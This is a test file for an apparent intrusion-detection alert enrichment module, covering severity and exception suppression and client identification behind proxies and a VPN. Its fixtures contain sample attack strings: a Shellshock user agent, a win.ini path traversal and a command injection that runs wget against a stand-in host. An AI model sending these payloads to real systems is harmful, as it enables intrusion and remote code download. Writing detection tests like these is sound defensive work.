import { describe, expect, test } from 'vitest';
import { catalogueOf } from './catalogue.ts';
import { digest } from './digest.ts';
import { enrich, type ThreatException } from './enrich.ts';
import { alertOf, contextOf, endpoint, lineOf, shellshock, sightingOf, start } from './samples.ts';
import type { Sighting } from './threat.ts';

const seen = (...of: Parameters<typeof enrich>): Sighting => enrich(...of) as Sighting;

describe('an alert', () => {
  test('becomes a threat with both instances, the application and the mirrored copy', () => {
    const http = {
      method: 'GET',
      host: '192.168.10.20',
      url: '/cgi-bin/test-critical',
      protocol: 'HTTP/1.1',
      userAgent: '() { :; }; /bin/id',
      status: 404,
    };
    expect(seen(alertOf({ http, payload: 'R0VU' }), contextOf())).toEqual(sightingOf());
  });

  test.each([
    ['/cgi-bin/test-critical', 'HTTP/1.1', 'test-critical', '/cgi-bin/test-critical'],
    ['/eicar.file', 'HTTP/1.1', 'eicar.file', '/eicar.file'],
    ['/?item=../../../WINNT/win.ini', 'HTTP/1.1', '', '/?item=../../../WINNT/win.ini'],
    [
      "/weblogin.cgi?username=admin';cd",
      '/tmp;wget http://1.2.3.4/evil HTTP/1.1',
      'weblogin.cgi',
      "/weblogin.cgi?username=admin';cd /tmp;wget http://1.2.3.4/evil",
    ],
    ['/a', undefined, 'a', '/a'],
  ])('of a request for %s %s shows %j of %s', (url, protocol, short, whole) => {
    const http = protocol === undefined ? { url } : { url, protocol };
    const it = seen(alertOf({ http }), contextOf());
    expect([it.uriOrFilename, it.uri]).toEqual([short, whole]);
  });

  test('without a request shows the file, else the name that was asked for', () => {
    expect(seen(alertOf({ fileName: 'share\\tools\\evil.exe' }), contextOf()).uriOrFilename).toBe('evil.exe');
    expect(seen(alertOf({ serverName: 'evil.example' }), contextOf()).uriOrFilename).toBe('evil.example');
    expect(seen(alertOf(), contextOf()).uriOrFilename).toBe('');
  });

  test.each([
    ['http', 'tcp', 'web-browsing'],
    ['tls', 'tcp', 'ssl'],
    ['ssh', 'tcp', 'ssh'],
    [undefined, 'tcp', 'unknown-tcp'],
    [undefined, 'icmp', 'icmp'],
  ])('of %s over %s is of the application %s', (application, protocol, name) => {
    const { application: _, ...rest } = alertOf({ protocol });
    expect(seen(application === undefined ? rest : { ...rest, application }, contextOf()).application).toBe(name);
  });

  test('keeps a bounded part of payload and packet, and says so', () => {
    const it = seen(alertOf({ payload: 'A'.repeat(100_000), packet: 'QUJD' }), contextOf());
    expect([it.payload?.truncated, Buffer.from(it.payload?.base64 ?? '', 'base64').length]).toEqual([true, 4095]);
    expect(it.packet).toEqual({ base64: 'QUJD', truncated: false });
  });

  test('of an interface that nobody named has no copy', () => {
    expect(seen(alertOf({ interface: 'eth9' }), contextOf()).seenAt).toBeUndefined();
  });
});

describe('an alert is counted but not kept', () => {
  test('below the severity of the endpoint', () => {
    const context = contextOf({ endpoint: { ...endpoint, severity: 'CRITICAL' } });
    expect(seen(alertOf(), context).definition).toBe(shellshock);
    const low = contextOf({
      endpoint: { ...endpoint, severity: 'CRITICAL' },
      definitionOf: () => ({ ...shellshock, severity: 'HIGH' }),
    });
    expect(enrich(alertOf(), low)).toEqual({ suppressed: 'below-severity' });
  });

  const cases: readonly (readonly [string, ThreatException, boolean])[] = [
    ['by threat id', { threatId: '36729' }, true],
    ['by another threat id', { threatId: '1' }, false],
    ['by source address', { threatId: '36729', source: '192.168.10.10' }, true],
    ['by source prefix, for every threat', { source: '192.168.10.0/28' }, true],
    ['by a source that is the destination', { source: '192.168.10.20' }, false],
    ['by destination prefix', { destination: '192.168.0.0/16' }, true],
    ['by source and another destination', { source: '192.168.10.10', destination: '10.0.0.0/8' }, false],
    ['by what cannot be read', { source: 'everything' }, false],
    ['until later', { threatId: '36729', until: start + 1 }, true],
    ['until now', { threatId: '36729', until: start }, false],
  ];
  test.each(cases)('excepted %s', (_, exception, hidden) => {
    const it = enrich(alertOf(), contextOf({ endpoint: { ...endpoint, exceptions: [exception] } }));
    expect('suppressed' in it).toBe(hidden);
    if (hidden) expect(it).toEqual({ suppressed: 'exception', exception });
  });

  test('with a client’s address as source also when the answer matched', () => {
    const context = contextOf({ endpoint: { ...endpoint, exceptions: [{ source: '192.168.10.10' }] } });
    expect(enrich(alertOf({ direction: 'server-to-client' }), context)).toHaveProperty('suppressed', 'exception');
  });
});

describe('the catalogue', () => {
  const rule = {
    sid: 9_100_001,
    threatId: '36729',
    name: 'Bash',
    severity: 'CRITICAL',
    type: 'vulnerability',
    category: 'code-execution',
    cves: [],
    description: '',
    references: [],
  };

  test('gives the same definition object for every alert of a rule', () => {
    const definitionOf = catalogueOf([rule]);
    expect(definitionOf(alertOf()).threatId).toBe('36729');
    expect(definitionOf(alertOf())).toBe(definitionOf(alertOf({ at: 5 })));
    expect(definitionOf(alertOf({ signatureId: 7 }))).toBe(definitionOf(alertOf({ signatureId: 7 })));
  });

  test('describes a rule that it does not know in the words of the engine', () => {
    const definitionOf = catalogueOf([], { 'Malicious file': { category: 'virus', type: 'virus' } });
    const found = definitionOf(
      alertOf({ signatureId: 2_000_001, signature: 'ET X', priority: 2, category: 'Malicious file' }),
    );
    expect(found).toMatchObject({
      threatId: '2000001',
      name: 'ET X',
      severity: 'HIGH',
      type: 'virus',
      category: 'virus',
    });
    expect(definitionOf(alertOf({ signatureId: 3, priority: 200, category: '' }))).toMatchObject({
      severity: 'INFORMATIONAL',
      category: 'unknown',
    });
  });
});

test('lines are sorted into threats, canaries, suppressed and malformed ones', () => {
  const canary = lineOf(1, start).replace('9100001', '9000042');
  const context = contextOf({ endpoint: { ...endpoint, exceptions: [{ source: '10.0.0.3' }] } });
  const found = digest([lineOf(2, start), canary, '', lineOf(3, start), 'x', lineOf(4, start)], context, {
    flows: false,
  });
  expect(found.sightings.map((it) => it.source.address)).toEqual(['10.0.0.2', '10.0.0.4']);
  expect(found.canaries.map((it) => it.signatureId)).toEqual([9_000_042]);
  expect([...found.suppressed]).toEqual([['exception/any', 1]]);
  expect(found.malformed).toEqual([{ index: 4, reason: 'cut off' }]);
});

test('behind a load balancer of our own stands somebody; from anybody else such words mean nothing', () => {
  const proxied = { client: '198.51.100.7', request: 'id-1', person: 'accounts.google.com:alice@example.com' };
  const context = contextOf({ isProxy: (address) => address === '130.211.0.1' });
  const clientOf = (address: string, said: object = proxied) => {
    const seen = enrich(alertOf({ client: { address, port: 4000 }, proxied: said }), context);
    return 'suppressed' in seen ? seen.suppressed : seen.client;
  };
  expect(clientOf('130.211.0.1')).toEqual({
    address: '198.51.100.7',
    principal: 'alice@example.com',
    requestId: 'id-1',
  });
  expect(clientOf('192.168.10.10')).toBeUndefined();
  expect(clientOf('130.211.0.1', { ...proxied, client: 'not an address' })).toBeUndefined();
  // Somebody who had not signed in: the engine remembers the request's id in that place.
  expect(clientOf('130.211.0.1', { ...proxied, person: 'id-1' })).toEqual({
    address: '198.51.100.7',
    requestId: 'id-1',
  });
});

test('an exception for a client holds also when it comes over the load balancer', () => {
  const exceptions = [{ source: '198.51.100.0/24', owner: 'a', reason: 'b' }];
  const context = contextOf({ isProxy: () => true, endpoint: { ...endpoint, exceptions } });
  const seen = (client: string) =>
    enrich(alertOf({ client: { address: '130.211.0.1', port: 1 }, proxied: { client } }), context);
  expect(seen('198.51.100.7')).toMatchObject({ suppressed: 'exception' });
  expect(seen('203.0.113.7')).not.toHaveProperty('suppressed');
});

test('a source that is somebody’s address of the SSL VPN at that time is told by their name', () => {
  const context = {
    ...contextOf(),
    personAt: (address: string, at: number) =>
      address === '10.60.77.2' && at === alertOf().at ? 'alice@example.com' : undefined,
  };
  const at = (address: string, more: object = {}) => {
    const seen = enrich(alertOf({ client: { address, port: 4000 }, ...more }), context);
    return 'suppressed' in seen ? undefined : seen.client;
  };
  expect(at('10.60.77.2')).toEqual({ address: '10.60.77.2', principal: 'alice@example.com' });
  expect(at('10.60.77.2', { at: alertOf().at + 1 })).toBeUndefined();
  expect(at('10.60.77.3')).toBeUndefined();
});
